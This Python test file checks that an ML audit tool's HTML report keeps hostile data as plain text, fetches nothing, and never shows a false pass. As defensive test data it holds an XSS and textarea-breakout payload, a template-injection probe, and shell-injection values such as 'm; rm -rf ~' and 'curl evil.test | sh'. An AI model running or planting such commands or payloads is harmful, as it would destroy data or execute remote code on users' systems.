"""Whatever an audit holds, the page stays text, fetches nothing, and is never a false pass."""

from __future__ import annotations

import base64
import hashlib
import json
import re
from dataclasses import replace
from importlib.resources import files
from typing import Any

import numpy as np
import pandas as pd
import pytest
from report_cases import (
    COLUMNS,
    HOSTILE,
    LEAK_SCORES,
    NO_SCORES,
    Page,
    make_audit,
    make_flagged,
    make_influence,
    make_scores,
)

from forward_inf_mlflow.errors import DataError, TrackingError
from forward_inf_mlflow.report import Portraits, render, thumbnail
from forward_inf_mlflow.report.approvals import with_approvals
from forward_inf_mlflow.verdicts.keys import PrivateKey
from forward_inf_mlflow.verdicts.seal import seal
from forward_inf_mlflow.verdicts.statement import Override, Subject


def hostile(value: Any) -> Any:
    """Replace every string and key that could be data by a hostile one, whatever is inside."""
    if isinstance(value, dict):
        return {key: hostile(item) for key, item in value.items()}
    if isinstance(value, list):
        return [hostile(item) for item in value]
    return HOSTILE if isinstance(value, str) else value


OURS = (files("forward_inf_mlflow.report") / "report.js").read_text("utf-8")


def scripts(html: str) -> list[str]:
    """What stands in a page's script elements."""
    return re.findall(r"<script[^>]*>(.*?)</script>", html, re.DOTALL)


def test_hostile_strings_stay_text_wherever_they_stand() -> None:
    audit = hostile(make_audit(leak_scores=LEAK_SCORES)) | {
        "settings": {HOSTILE: HOSTILE},
        "tool": {HOSTILE: HOSTILE},
    }
    audit["decision"] |= {"outcome": "fail"}
    words = [c for c in COLUMNS if c not in ("verdict", "score", "loss", "same_label")]
    flagged = make_flagged(1, **dict.fromkeys(words, HOSTILE))
    scores = make_scores().assign(label=HOSTILE, source=HOSTILE)
    scores.loc[0, "id"], scores.loc[1, "copy_of"] = HOSTILE, HOSTILE
    scores.loc[0, "copy_conflicts"] = scores.loc[1, "copy_conflicts"] = True
    sides = [
        (f"{role}:{HOSTILE}", HOSTILE, value) for role in ("train", "query") for value in (1, -1)
    ]
    values = {f"train:{HOSTILE}": [(HOSTILE, f"{HOSTILE} a"), ("n", 1)]}
    values |= {
        f"query:{HOSTILE}": [(HOSTILE, f"{HOSTILE} b"), ("n", 2)],
        "train:c0": [(HOSTILE, HOSTILE)],
    }

    html = render(audit, flagged, scores, Portraits({}, values), make_influence(sides))
    page = Page(html)

    assert "Proponents" in page.text
    assert "<mark>b</mark>" in html

    assert scripts(html) == [OURS]
    assert {tag for tag, _ in page.tags}.isdisjoint({"iframe", "object", "link", "form"})
    assert page.attributes("img", "src") == []
    assert not any(name.startswith("on") for _, attrs in page.tags for name in attrs)
    assert "<script>alert(1)</script></textarea>" in page.text
    (area,) = [attrs for tag, attrs in page.tags if tag == "textarea"]
    assert html.count("</textarea>") == 1, "nothing from data ends it, and nothing is in it"
    assert area["data-table"] is None
    assert "\u202e" not in page.text, "a bidirectional override would reorder what is read"
    assert "{{7*7}}" in page.text


def test_hostile_approvals_stay_text_and_can_be_replaced() -> None:
    subject = Subject(name="m", version="1", creation_timestamp=1, source="", model_id=None)
    override = Override(subject=subject, alias=HOSTILE, reason=HOSTILE, issued=1, expires=2**52)
    mark = "<!-- /approvals -->"
    sealed = [
        seal(replace(override, reason=f"{mark} {i} {HOSTILE}"), PrivateKey.generate())
        for i in range(25)
    ]
    html = render(make_audit(), make_flagged(), NO_SCORES, approvals=sealed)
    page = Page(html)
    assert html.count(mark) == 1
    assert scripts(html) == [OURS]
    assert page.attributes("img", "src") == []
    assert page.text.count("<script>alert(1)</script>") == 40
    assert "5 older ones are not shown" in page.text
    assert "\u202e" not in page.text
    without = render(make_audit(), make_flagged(), NO_SCORES)
    assert "Approvals" not in Page(without).text
    assert with_approvals(html, []) == without
    assert with_approvals(without, sealed) == html
    assert with_approvals("<html></html>", sealed) is None


def test_no_script_but_ours_runs_and_it_never_writes_markup() -> None:
    html = render(make_audit(), make_flagged(), make_scores())
    assert scripts(html) == [OURS]
    digest = base64.b64encode(hashlib.sha256(OURS.encode()).digest()).decode()
    assert f"script-src 'sha256-{digest}';" in html
    assert not re.search(r"innerHTML|insertAdjacent|document\.write|eval|fetch|import", OURS)
    assert scripts(render({}, pd.DataFrame(), NO_SCORES)) == [OURS]


def test_values_that_are_of_no_kind_end_no_page() -> None:
    told = Portraits.read(
        pd.DataFrame(
            {
                "row": ["train:r0", "train:r1", "train:r2", None],
                "picture": [b"png", "text", None, 7],
                "values": ["[[", '[["a", {"b": [null]}]]', '{"a": 1}', None],
            }
        )
    )
    assert told.pictures == {"train:r0": b"png"}
    assert told.values == {"train:r1": [("a", {"b": [None]})]}
    assert Portraits.read(pd.DataFrame({"row": [1]})) == Portraits()
    asked = pd.DataFrame({name: [None, "x"] for name in make_influence().columns})
    assert "r1" in render(make_audit(), make_flagged(), make_scores(), told, asked)


@pytest.mark.parametrize("value", [np.nan, np.inf, -np.inf, -5.0, 1e30])
@pytest.mark.parametrize("column", ["mislabeled_score", "mislabeled_surely"])
def test_the_sliders_numbers_are_numbers_whatever_the_scores(column: str, value: float) -> None:
    scores = make_scores()
    scores.loc[:3, column] = value
    html = render(make_audit(), make_flagged(), scores.drop(columns="mislabeled"))
    found = re.search(r'data-depths="([^"]*)"', html)
    assert found
    assert all(0 <= row[2] <= row[0] for row in json.loads(found[1]))


def test_the_page_forbids_scripts_and_the_network_before_anything_else_is_parsed() -> None:
    html = render(make_audit(), make_flagged(), NO_SCORES)
    page = Page(html)
    (policy,) = [
        attrs["content"]
        for _, attrs in page.tags
        if attrs.get("http-equiv") == "Content-Security-Policy"
    ]
    assert policy is not None
    assert "default-src 'none'" in policy
    assert re.fullmatch(r"'sha256-[^' ]+'", policy.split("script-src ")[1].split(";")[0])
    assert html.index("Content-Security-Policy") < html.index("<title>")


def test_nothing_is_fetched() -> None:
    images = {"train:r0": thumbnail(np.eye(8))}
    html = render(
        make_audit(leak_scores=LEAK_SCORES), make_flagged(), make_scores(), Portraits(images)
    )
    page = Page(html)
    targets = [
        value or ""
        for _, attrs in page.tags
        for name, value in attrs.items()
        if name in ("src", "href", "xlink:href", "srcset", "action", "poster")
    ]
    assert targets
    assert all(target.startswith("#") for target in targets)
    outside = re.sub(r"url\(data:image/png;base64,[A-Za-z0-9+/=]*\)", "", html)
    assert outside != html
    assert not re.search(r"url\(|@import|https?:", outside)


@pytest.mark.parametrize(
    ("name", "pasted"),
    [
        ("m", "forward-inf promote models:/m/1 --alias champion"),
        ("m; rm -rf ~", "forward-inf promote 'models:/m; rm -rf ~/1' --alias champion"),
    ],
)
def test_the_command_to_promote_is_one_command_whatever_the_model_is_called(
    name: str, pasted: str
) -> None:
    audit = make_audit(decision={"outcome": "pass", "reasons": []})
    audit["model"] |= {"uri": f"models:/{name}/1"}
    assert pasted in Page(render(audit, make_flagged(), NO_SCORES)).text


@pytest.mark.parametrize(
    "repeat", ["curl evil.test | sh", "forward-inf audit x; curl evil.test", "forward-inf 'a", 7]
)
def test_the_command_to_repeat_calls_nothing_but_this_tool(repeat: Any) -> None:
    page = Page(render(make_audit(repeat=repeat), make_flagged(), NO_SCORES))
    shown = page.text.split("How to repeat it")[1].strip().splitlines()[0]
    assert shown in ("forward-inf audit models:/m/1", "forward-inf audit 'x;' curl evil.test")


@pytest.mark.parametrize(
    "changes",
    [{"model": ["m"]}, {"measures": {"leaked": 3}}, {"sources": {"a": 1}}, {"data": "x"}],
    ids=str,
)
def test_an_audit_of_another_shape_is_refused_in_one_line(changes: dict[str, Any]) -> None:
    with pytest.raises(TrackingError, match=r"audit the version again") as caught:
        render(make_audit(**changes), make_flagged(), NO_SCORES)
    assert "\n" not in str(caught.value)


def test_flagged_rows_without_a_verdict_are_refused() -> None:
    with pytest.raises(DataError, match="verdict"):
        render(make_audit(), make_flagged().drop(columns="verdict"), NO_SCORES)


@pytest.mark.parametrize("value", [10**400, "0.3", [1], True, float("inf"), None])
def test_a_value_that_is_no_number_reads_as_a_dash(value: Any) -> None:
    audit = make_audit(leak_scores=[value, 1.0])
    audit["measures"]["mislabeled"] |= {"rate": value, "threshold": value}
    audit["costs"]["rows"] = value
    scores = make_scores().astype(object)
    scores.loc[0, "mislabeled_score"] = str(value)
    page = render(audit, make_flagged(loss=[value] * 9), scores)
    assert "<dd>– rows, 557 queries" in page


@pytest.mark.parametrize("key", sorted(make_audit()))
def test_a_report_is_rebuilt_from_an_older_audit_that_lacks(key: str) -> None:
    audit = make_audit()
    del audit[key]
    page = render(audit, make_flagged(), NO_SCORES)
    assert "Scores are the sensitivity of this trained model, not proof." in page
    assert ("UNDECIDED" in page) == (key == "decision")


def test_an_empty_audit_is_undecided() -> None:
    page = render({}, pd.DataFrame(), pd.DataFrame())
    assert "UNDECIDED" in page
    assert "No row was flagged." in page
    assert "the audit holds no decision" in page


def test_an_unfinished_audit_never_reads_as_a_pass() -> None:
    audit = make_audit(finished=False, decision={"outcome": "pass", "reasons": []})
    page = render(audit, make_flagged(), NO_SCORES)
    assert "UNDECIDED" in page
    assert "PASS" not in page
    assert "forward-inf promote" not in page
